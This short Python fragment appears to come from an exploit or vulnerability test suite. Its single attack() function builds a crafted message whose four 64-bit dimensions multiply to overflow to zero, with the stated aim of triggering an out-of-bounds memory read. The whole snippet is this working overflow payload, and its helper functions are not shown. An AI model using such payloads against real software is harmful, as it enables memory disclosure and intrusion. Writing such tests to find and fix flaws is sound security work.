"""Choose sides whose product overflows to 0. Success: memory out of bounds is read."""


def attack():
    sides = struct.pack("<4Q", 1 << 32, 1 << 32, 1 << 32, 1 << 32)
    frame(RESULT, call_under_way(), b"l\3\0\0\0a\x0b\4" + sides + b"NN")
